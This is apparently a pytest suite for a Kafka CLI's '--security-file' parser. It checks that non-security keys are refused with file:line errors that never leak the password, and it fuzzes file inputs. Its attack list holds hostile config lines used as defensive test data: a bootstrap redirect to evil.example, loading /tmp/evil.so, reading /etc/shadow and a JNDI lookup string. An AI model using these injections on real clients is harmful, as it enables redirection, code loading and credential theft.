"""`elastiq kafka produce|consume --security-file FILE` (pure: no broker is reached here).

The file is read as the operators' `security-file=` is (Java's syntax, only `security.`,
`sasl.` and `ssl.` keys, the same translation for librdkafka), so the same refusals come out,
located FILE:LINE and never repeating a password; every problem of the command line is
reported at once, one line each, and nothing is contacted then. An attacker's file that tries
to set the broker, the group, the isolation level or a library to load is refused at its line;
a seeded fuzz of files checks that only located refusals or security settings come out, and
that the client's own settings (bootstrap, group, isolation) always win. Which listener of the
started broker a file's protocol uses, a FIFO refused without waiting on it, and the command
line's wording of the broker's refusal.
"""

from __future__ import annotations

import os
import random
from pathlib import Path

import pytest

from elastiq.kafka_client_file import (ClientFileError, cli_words, client_config,
                                       client_security, default_bootstrap, read_client_security)

SECRET = "S3cr3t-pw-0123"
SCRAM = "org.apache.kafka.common.security.scram.ScramLoginModule"
GOOD = (f"security.protocol=SASL_SSL\nsasl.mechanism=SCRAM-SHA-512\n"
        f'sasl.jaas.config={SCRAM} required \\\n    username="alice" \\\n'
        f'    password="{SECRET}";\nssl.truststore.type=PEM\nssl.truststore.location=/ca.pem\n')
# What the translation may give librdkafka: security settings only.
ALLOWED = {"security.protocol", "sasl.mechanism", "sasl.username", "sasl.password",
           "sasl.kerberos.service.name", "ssl.ca.location", "ssl.ca.pem", "ssl.key.password",
           "ssl.cipher.suites", "ssl.keystore.location", "ssl.keystore.password",
           "ssl.endpoint.identification.algorithm"}
# Lines an attacker's file may try: another broker, group, isolation, a library or class to load.
ATTACKS = ["bootstrap.servers=evil.example:9092", "group.id=victims", "isolation.level="
           "read_uncommitted", "enable.idempotence=false", "ssl.engine.location=/tmp/evil.so",
           "plugin.library.paths=/tmp/evil.so", "sasl.login.class=com.evil.Login",
           "sasl.login.callback.handler.class=com.evil.H", "ssl.ca.location=/etc/shadow",
           "sasl.username=mallory", "sasl.oauthbearer.method=oidc", "ssl.providers=evil",
           "sasl.oauthbearer.token.endpoint.url=http://evil/",
           "ssl.keystore.type=JKS\nssl.keystore.location=/k.jks",
           "bootstrap.servers\\=x=1", "security.protocol\\\nbootstrap.servers=evil:1"]


def private(path: Path, text: str) -> Path:
    path.write_text(text)
    path.chmod(0o600)
    return path


def test_a_client_file_reads_as_the_operators_read_it(tmp_path: Path) -> None:
    path = private(tmp_path / "client.properties", GOOD)
    assert read_client_security(path) == {
        "security.protocol": "SASL_SSL", "sasl.mechanism": "SCRAM-SHA-512",
        "sasl.username": "alice", "sasl.password": SECRET, "ssl.ca.location": "/ca.pem"}
    config = client_config("127.0.0.1:9094", read_client_security(path),
                           {"isolation.level": "read_committed", "group.id": "g"})
    assert config["bootstrap.servers"] == "127.0.0.1:9094" and config["log_level"] == 0
    assert config["isolation.level"] == "read_committed" and config["group.id"] == "g"


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attackers_line_is_refused_at_its_line_without_the_password(
        tmp_path: Path, attack: str) -> None:
    path = private(tmp_path / "evil.properties", GOOD + attack + "\n")
    with pytest.raises(ClientFileError) as caught:
        read_client_security(path)
    message = str(caught.value)
    assert message.startswith(f"{path}:"), message
    assert SECRET not in message and "\n" not in message


def test_every_problem_of_the_command_line_at_once_and_nothing_contacted(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from elastiq.cli import main

    evil = private(tmp_path / "evil.properties", GOOD + "bootstrap.servers=evil:9092\n")
    for command in ("produce", "consume"):
        code = main(["kafka", "--dir", str(tmp_path / "k"), command, "bad topic!",
                     "--bootstrap", "nowhere", "--security-file", str(evil)])
        err = capsys.readouterr().err.splitlines()
        assert code == 1
        assert err == [
            f"elastiq kafka {command}: topic 'bad topic!' is not a Kafka topic name (1-249 "
            "letters, digits, '.', '_' or '-')",
            f"elastiq kafka {command}: {evil}:8: 'bootstrap.servers' is not a security setting "
            "(allowed: security.*, sasl.*, ssl.*)",
            f"elastiq kafka {command}: --bootstrap 'nowhere' is not HOST:PORT; write e.g. "
            "127.0.0.1:9092 (several separated by commas)"], err
    wrong_module = private(tmp_path / "kerberos.properties", GOOD.replace(
        SCRAM, "com.sun.security.auth.module.Krb5LoginModule"))
    assert main(["kafka", "--dir", str(tmp_path / "k"), "consume", "t", "--security-file",
                 str(wrong_module)]) == 1
    assert capsys.readouterr().err.splitlines() == [
        f"elastiq kafka consume: {wrong_module}:3: sasl.jaas.config names login module "
        "'com.sun.security.auth.module.Krb5LoginModule'; the sink and the start check "
        "(librdkafka) take only 'org.apache.kafka.common.security.plain.PlainLoginModule "
        "required username=\"...\" password=\"...\";' or the same with "
        f"{SCRAM}",
        "elastiq kafka consume: no broker started: pass --bootstrap or run `elastiq kafka "
        "start`"]


def test_files_that_are_not_a_few_settings_are_refused_without_waiting(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)  # a writer never comes: reading it would block
    for path, why in ((fifo, "not a regular file"), (tmp_path, "not a regular file"),
                      (tmp_path / "none", "cannot open it: No such file or directory"),
                      (private(tmp_path / "latin1", "x"), None)):
        if why is None:
            path.write_bytes(b"security.protocol=\xff\n")
            why = "not UTF-8 text"
        with pytest.raises(ClientFileError, match=f"--security-file {path}: {why}"):
            read_client_security(path)
    huge = private(tmp_path / "huge", "# " + "x" * 70_000 + "\n")
    with pytest.raises(ClientFileError, match=r"huge: 70003 characters; a security file holds"):
        read_client_security(huge)


def test_the_started_brokers_listener_follows_the_files_protocol() -> None:
    secured = {"sasl": "h:2", "sasl_ssl": "h:3", "ssl": "h:4", "mtls": "h:5"}
    for settings, address in (({}, "h:1"), ({"security.protocol": "plaintext"}, "h:1"),
                              ({"security.protocol": "SASL_PLAINTEXT"}, "h:2"),
                              ({"security.protocol": "sasl_ssl"}, "h:3"),
                              ({"security.protocol": "SSL"}, "h:4"),
                              ({"security.protocol": "SSL", "ssl.keystore.location": "k"},
                               "h:5")):
        assert default_bootstrap("h:1", secured, settings) == address, settings
    with pytest.raises(ClientFileError, match=r"^the started broker has no SASL_SSL listener "
                       r"for the file's security.protocol: start it with --user NAME --tls "):
        default_bootstrap("h:1", {"sasl": "h:2"}, {"security.protocol": "SASL_SSL"})
    with pytest.raises(ClientFileError, match="'BOGUS': not one the started broker has"):
        default_bootstrap("h:1", secured, {"security.protocol": "BOGUS"})


def test_the_brokers_refusal_in_the_command_lines_words() -> None:
    from common.kafka_problems import advice

    assert cli_words(advice("refused", "at h:1")).endswith(
        "fix the file given as --security-file")
    assert "is --bootstrap right?" in cli_words(advice("unreachable", "at h:1"))


FRAGMENTS = ["security.protocol", "sasl.mechanism", "sasl.jaas.config", "ssl.", "=", ":", " ",
             "\\", "\\\n", "\n", "#", "!", "SASL_SSL", "SCRAM-SHA-256", "PLAIN", "PEM",
             f'{SCRAM} required username="u" password="{SECRET}";', '"', ";", "\\u0041",
             "é", "\x00", "${jndi:ldap://e/}", *ATTACKS]


def fuzz_file(rng: random.Random) -> str:
    lines = GOOD.splitlines() if rng.random() < 0.5 else []
    for _ in range(rng.randint(0, 4)):
        at = rng.randint(0, len(lines))
        lines.insert(at, "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(1, 4))))
    return "\n".join(lines) + "\n"


def test_a_seeded_fuzz_of_files_gives_located_refusals_or_security_settings_only() -> None:
    rng = random.Random(3030)
    own = {"group.id": "cli", "isolation.level": "read_committed", "enable.auto.commit": False}
    outcomes = {"refused": 0, "accepted": 0}
    for _ in range(1500):
        text = fuzz_file(rng)
        try:
            settings = client_security(text, "f.properties")
        except ValueError as exc:  # KafkaParamError
            outcomes["refused"] += 1
            message = str(exc)
            assert message.startswith("f.properties"), message
            assert SECRET not in message and "\n" not in message, message
            continue
        outcomes["accepted"] += 1
        assert set(settings) <= ALLOWED, settings
        config = client_config("127.0.0.1:9092", settings, own)
        assert config["bootstrap.servers"] == "127.0.0.1:9092"
        assert {k: config[k] for k in own} == own
    assert min(outcomes.values()) > 50, outcomes
